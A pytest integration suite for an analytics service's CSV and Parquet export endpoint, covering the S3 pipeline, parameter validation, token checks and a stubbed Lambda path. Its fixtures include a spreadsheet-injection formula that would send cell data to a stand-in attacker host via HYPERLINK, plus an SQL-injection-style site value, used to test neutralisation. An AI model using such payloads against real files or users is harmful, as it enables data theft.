"""GET /export end to end on moto: events posted through the real collector -> the events table's
stream -> the stream writer -> Parquet on S3 -> GET /export -> 303 -> the presigned link downloaded
and parsed (csv module, lake.parquet.parquet_rows). Every 400, the 401, and the production path
through a stubbed Lambda client (the query function's real answer as its payload)."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from dataclasses import replace
from datetime import datetime, timezone

import boto3
import pytest
import requests
from botocore.response import StreamingBody
from botocore.stub import Stubber
from chalice.test import Client

from app import app
from chalicelib.core.metrics import Metrics
from chalicelib.core.settings import parse_sites
from chalicelib.lake.layout import Partition, stream_object_key
from chalicelib.lake.parquet import parquet_rows, rows_to_parquet
from chalicelib.query.export import EXPORT_COLUMNS, export_request
from chalicelib.services import set_services
from chalicelib.store.lake_duckdb import LakeCache
from tests.integration.conftest import AUTH, STAGE, post
from tests.integration.lakepipe import BUCKET, lake_pipeline

SITE = "demo"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
QUERY_FUNCTION = "LiveInsight-EventLakeQuery"


@pytest.fixture
def wired(dynamodb, settings, no_sleep_backoff, tmp_path, monkeypatch):
    lake = lake_pipeline(dynamodb, settings, no_sleep_backoff, sites_json='{"demo": {"origins": []}, '
                         '"other": {"origins": []}}', cache_dir=tmp_path / "cache", monkeypatch=monkeypatch)
    yield lake.services, lake.poller, lake.s3, lake.install
    set_services(None)


def posted_events(now_ms: int) -> list[dict]:
    """Three visitors' events of the last hour, texts a spreadsheet would run as formulas among them."""
    def event(n: int, kind: str, path: str, seconds_ago: int, user: str, **extra) -> dict:
        return {"site": SITE, "event_type": kind, "user_id": user, "timestamp": now_ms - seconds_ago * 1000,
                "event_id": str(uuid.UUID(int=n + 1, version=4)), "page_url": f"https://shop.example{path}",
                **extra}
    return [
        event(1, "page_view", "/", 3000, "ann", title="Home", referrer="https://www.google.com/"),
        event(2, "page_view", "/pricing", 2900, "ann", title=FORMULA),
        event(3, "-signup", "/pricing", 2800, "ann", properties={"plan": "=1+1", "seats": "3"}),
        event(4, "page_view", "/blog", 2000, "@bob", title="+1 idea"),
        event(5, "page_view", "/docs", 1000, "carol", title="@home"),
        event(6, "outbound_click", "/docs", 900, "carol"),
    ]


def fill(api, poller, events: list[dict]) -> None:
    response = post(api, {"events": events})
    assert response.status_code == 200 and json.loads(response.body)["accepted"] == len(events), response.body
    assert poller.poll_once() == len(events)


def copy_into_second_object(s3, events: list[dict]) -> int:
    """A re-delivered batch split elsewhere: two events again, in a stream object of their own, in a
    partition that holds two (the events of the last hour fall on two days just after UTC midnight)."""
    for partition in dict.fromkeys(Partition.of(SITE, e["timestamp"]) for e in events):
        keys = [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=partition.prefix)["Contents"]]
        rows = [row for key in keys for row in parquet_rows(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())]
        if len(rows) >= 2:
            again = rows[:2]
            s3.put_object(Bucket=BUCKET, Key=stream_object_key(partition, "shardId-redelivered", "999"),
                          Body=rows_to_parquet(again))
            return len(again)
    raise AssertionError("no partition holds two of the posted events")


def get_export(api, query: str, headers=AUTH):
    return api.http.get(f"/export?{query}", headers=headers)


def download(response) -> tuple[dict, bytes]:
    assert response.status_code == 303, response.body
    body = json.loads(response.body)
    assert response.headers["Location"] == body["url"]
    got = requests.get(body["url"], timeout=10)  # moto answers the presigned link in process
    assert got.status_code == 200
    assert len(got.content) == body["bytes"]
    return body, got.content


def iso_ms(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def window(now_ms: int) -> str:
    return f"site={SITE}&from={now_ms - 7_200_000}&to={now_ms + 60_000}"


def test_the_csv_export_is_exactly_the_posted_events_once_each_and_safe_for_spreadsheets(wired):
    services, poller, s3, _ = wired
    now_ms = int(time.time() * 1000)
    events = posted_events(now_ms)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, events)
        assert copy_into_second_object(s3, events) == 2
        body, content = download(get_export(api, window(now_ms) + "&format=csv"))

    assert body["rows"] == len(events) and body["format"] == "csv"
    assert body["key"].startswith(f"exports/{SITE}/") and body["key"].endswith(".csv")
    assert datetime.fromisoformat(body["expires_at"]).timestamp() == pytest.approx(now_ms / 1000 + 900, abs=60)
    text = content.decode("utf-8")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == EXPORT_COLUMNS
    assert not any("ip" in name.split("_") for name in reader.fieldnames) and "127.0.0.1" not in text
    rows = list(reader)
    assert [r["event_id"] for r in rows] == [e["event_id"] for e in events]  # once each, ordered by time
    assert [r["time"] for r in rows] == [iso_ms(e["timestamp"]) for e in events]
    assert [r["page_path"] for r in rows] == ["/", "/pricing", "/pricing", "/blog", "/docs", "/docs"]
    assert {r["site"] for r in rows} == {SITE}
    assert {r["date"] for r in rows} == {Partition.of(SITE, e["timestamp"]).date for e in events}
    assert len({r["session_id"] for r in rows}) == 3
    # Formulas arrive as text: a leading ' for =, +, -, @ (OWASP); other cells untouched.
    assert [r["title"] for r in rows] == ["Home", "'" + FORMULA, "", "'+1 idea", "'@home", ""]
    assert rows[2]["event_type"] == "'-signup" and rows[3]["user_id"] == "'@bob" and rows[0]["user_id"] == "ann"
    assert json.loads(rows[2]["properties"]) == {"plan": "=1+1", "seats": "3"}  # JSON text starts with {
    assert (rows[2]["revenue_amount"], rows[2]["user_id"]) == ("", "ann")  # a missing value is an empty cell
    assert text.splitlines()[0] == ",".join(EXPORT_COLUMNS)


def test_the_parquet_export_keeps_the_lakes_types_and_the_raw_texts(wired):
    services, poller, s3, _ = wired
    now_ms = int(time.time() * 1000)
    events = posted_events(now_ms)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, events)
        copy_into_second_object(s3, events)
        body, content = download(get_export(api, window(now_ms) + "&format=parquet"))
    assert content[:4] == b"PAR1" and body["rows"] == len(events)
    rows = parquet_rows(content)
    assert [r["event_id"] for r in rows] == [e["event_id"] for e in events]
    assert [r["time"] for r in rows] == [e["timestamp"] for e in events]
    assert [r.get("title") for r in rows] == ["Home", FORMULA, None, "+1 idea", "@home", None]
    assert rows[2]["properties"] == {"plan": "=1+1", "seats": "3"} and "revenue_amount" not in rows[2]
    assert set(rows[0]) <= set(EXPORT_COLUMNS) and {r["site"] for r in rows} == {SITE}


def test_a_range_without_events_is_a_file_with_only_the_header(wired):
    services, poller, s3, _ = wired
    now_ms = int(time.time() * 1000)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, posted_events(now_ms))
        body, content = download(get_export(api, f"site={SITE}&from=2025-01-01&to=2025-01-31"))
        other, other_content = download(get_export(api, f"site=other&from={now_ms - 7_200_000}"))
    assert body["rows"] == 0 and content.decode() == ",".join(EXPORT_COLUMNS) + "\n"
    assert other["rows"] == 0 and other_content == content  # another site's events are never in it


def test_the_range_is_from_inclusive_to_exclusive_in_any_time_spelling(wired):
    services, poller, s3, _ = wired
    now_ms = int(time.time() * 1000)
    events = posted_events(now_ms)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, events)
        first, last = events[1]["timestamp"], events[4]["timestamp"]
        spellings = (f"from={first}&to={last}", f"from={iso_ms(first)}&to={iso_ms(last)}".replace("Z", "%2B00:00"))
        for spelling in spellings:
            _, content = download(get_export(api, f"site={SITE}&{spelling}"))
            ids = [r["event_id"] for r in csv.DictReader(io.StringIO(content.decode()))]
            assert ids == [e["event_id"] for e in events[1:4]], spelling


BAD = [
    ("site=demo&limit=5", "unknown_parameter", "limit"),
    ("site=demo&site=demo", "duplicate_parameter", "site"),
    ("site=", "empty_parameter", "site"),
    ("site=nosuch", "unknown_site", "site"),
    ("site=Demo%27%3B--", "unknown_site", "site"),
    ("from=yesterday", "invalid_time", "from"),
    ("to=2026-02-30", "invalid_time", "to"),
    ("from=1999-12-31", "time_out_of_range", "from"),
    ("from=2025-01-02&to=2025-01-01", "invalid_range", "from"),
    ("from=2025-01-01&to=2025-01-01", "invalid_range", "from"),
    ("from=2025-01-01&to=2025-02-02", "range_too_long", "from"),
    ("format=xlsx", "invalid_format", "format"),
    ("format=CSV", "invalid_format", "format"),
]


@pytest.mark.parametrize(("query", "code", "field"), BAD)
def test_every_bad_parameter_is_a_400_naming_it(wired, query, code, field):
    with Client(app, stage_name=STAGE) as api:
        response = get_export(api, query)
    assert response.status_code == 400, response.body
    assert json.loads(response.body)["error"]["code"] == code
    assert json.loads(response.body)["error"]["field"] == field


def test_31_days_is_the_longest_export(wired):
    with Client(app, stage_name=STAGE) as api:
        response = get_export(api, "from=2025-01-01&to=2025-02-01")
    assert response.status_code == 303


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong"}, {"Authorization": "Basic x"}])
def test_no_export_without_the_token(wired, headers):
    services, poller, s3, _ = wired
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, posted_events(int(time.time() * 1000)))
        response = get_export(api, f"site={SITE}", headers=headers)
    assert response.status_code == 401
    assert s3.list_objects_v2(Bucket=BUCKET, Prefix="exports/")["KeyCount"] == 0  # nothing was built


@pytest.mark.parametrize(("export", "field"), [
    ({"site": "nosuch", "time_range_ms": [0, 1], "format": "csv"}, "site"),
    ({"site": SITE, "time_range_ms": [5, 5], "format": "csv"}, "from"),
    ({"site": SITE, "time_range_ms": [0, 32 * 86_400_000], "format": "csv"}, "from"),
    ({"site": SITE, "time_range_ms": [True, 5], "format": "csv"}, "from"),
    ({"site": SITE, "time_range_ms": [0, 5], "format": "json"}, "format"),
    ({"site": SITE, "time_range_ms": [0, 5], "sql": "drop"}, "export"),
    ("everything", "export"),
])
def test_the_query_function_answers_bad_exports_with_400(wired, export, field):
    services, *_ = wired
    answer = services.query_lake({"export": export})
    assert answer["status"] == 400 and answer["error"]["field"] == field


# --- production: the API hands the export to the query function ----------------------------------

def payload(answer: dict) -> StreamingBody:
    raw = json.dumps(answer).encode()
    return StreamingBody(io.BytesIO(raw), len(raw))


def test_in_production_the_query_function_builds_the_file_and_the_api_redirects(wired):
    services, poller, s3, install = wired
    now_ms = int(time.time() * 1000)
    events = posted_events(now_ms)
    from_ms, to_ms = now_ms - 7_200_000, now_ms + 60_000
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, events)
    # What the query function answers to the API's exact request (its body, run here).
    request = export_request(SITE, from_ms, to_ms, "parquet")
    function_answer = services.query_lake(json.loads(json.dumps(request)))
    assert function_answer["rows"] == len(events)

    lambda_client = boto3.client("lambda", region_name="us-east-1")
    stubber = Stubber(lambda_client)
    stubber.add_response("invoke", {"StatusCode": 200, "Payload": payload(function_answer)},
                         {"FunctionName": QUERY_FUNCTION, "InvocationType": "RequestResponse",
                          "Payload": json.dumps(request).encode()})
    stubber.add_response("invoke", {"StatusCode": 200, "Payload": payload(
        {"status": 400, "error": {"code": "export_too_large", "message": "split it", "field": "from"}})})
    stubber.add_response("invoke", {"StatusCode": 200, "Payload": payload(
        {"status": 503, "error": {"code": "engine_failed", "message": "DuckDB: out of memory"}})})
    stubber.add_response("invoke", {"StatusCode": 200, "FunctionError": "Unhandled",
                                    "Payload": payload({"errorMessage": "Task timed out"})})
    stubber.add_client_error("invoke", "TooManyRequestsException", http_status_code=429)
    prod = install(query_function=QUERY_FUNCTION)
    prod.lambda_client = lambda_client
    with stubber, Client(app, stage_name=STAGE) as api:
        body, content = download(get_export(api, f"site={SITE}&from={from_ms}&to={to_ms}&format=parquet"))
        assert [r["event_id"] for r in parquet_rows(content)] == [e["event_id"] for e in events]
        too_large = get_export(api, f"site={SITE}")
        assert too_large.status_code == 400
        assert json.loads(too_large.body)["error"] == {"code": "export_too_large", "message": "split it",
                                                       "field": "from"}
        for _ in range(3):  # the engine failed, the function failed, Lambda refused the call
            failed = get_export(api, f"site={SITE}")
            assert failed.status_code == 503 and "Retry-After" in failed.headers, failed.body
        stubber.assert_no_pending_responses()
    assert body["rows"] == len(events)


def test_an_export_over_the_embedded_engines_limit_is_refused_before_it_is_built(wired):
    services, poller, s3, install = wired
    now_ms = int(time.time() * 1000)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, posted_events(now_ms))
        install(lake_embedded_limit_bytes=100)
        response = get_export(api, window(now_ms))
    assert response.status_code == 400 and json.loads(response.body)["error"]["code"] == "export_too_large"
    assert s3.list_objects_v2(Bucket=BUCKET, Prefix="exports/")["KeyCount"] == 0


def test_many_objects_are_exported_in_time_order_with_each_event_once(settings, tmp_path):
    """60,000 events in 12 stream objects written out of order, 1,000 of them also in a 13th."""
    from chalicelib.query.export import export
    from tests.lakefakes import MemoryLakeObjects
    from tests.lakeparts import DAY_START_MS, event_rows, put_stream_object

    class Files:  # the S3 side is the moto tests' above; here only the file matters
        def __init__(self) -> None:
            self.bodies: dict[str, bytes] = {}

        def put_file(self, key: str, path: str, content_type: str, download_name: str) -> None:
            self.bodies[key] = open(path, "rb").read()

        def link(self, key: str, expires_seconds: int) -> str:
            return f"memory://{key}?expires={expires_seconds}"

    lake, files = MemoryLakeObjects(), Files()
    rows = event_rows(60_000, start_ms=DAY_START_MS)
    shuffled = rows[::2] + rows[1::2]
    for n, start in enumerate(range(0, len(rows), 5_000)):
        put_stream_object(lake, SITE, shuffled[start:start + 5_000], n + 1)
    put_stream_object(lake, SITE, rows[7_000:8_000], 99)
    settings = replace(settings, sites=parse_sites('{"demo": {"origins": []}}'))
    answer = export(export_request(SITE, DAY_START_MS, DAY_START_MS + 86_400_000, "csv"), lake, files, settings,
                    Metrics("test", write=lambda line: None), now_ms=DAY_START_MS,
                    cache=LakeCache(root=str(tmp_path)))
    assert answer["rows"] == 60_000 and answer["meta"]["files_read"] == 13
    exported = list(csv.DictReader(io.StringIO(files.bodies[answer["key"]].decode())))
    assert [r["event_id"] for r in exported] == [r["event_id"] for r in rows]
    assert answer["url"] == f"memory://{answer['key']}?expires=900"


def test_an_export_is_capped_by_what_the_functions_tmp_holds_whatever_the_engine_limit(wired, monkeypatch):
    from chalicelib.query import export as export_module

    services, poller, s3, _ = wired
    now_ms = int(time.time() * 1000)
    with Client(app, stage_name=STAGE) as api:
        fill(api, poller, posted_events(now_ms))
        assert services.settings.lake_embedded_limit_bytes > 10**9
        monkeypatch.setattr(export_module, "MAX_EXPORT_PARQUET_BYTES", 100)
        response = get_export(api, window(now_ms))
    assert response.status_code == 400 and "(100)" in json.loads(response.body)["error"]["message"]
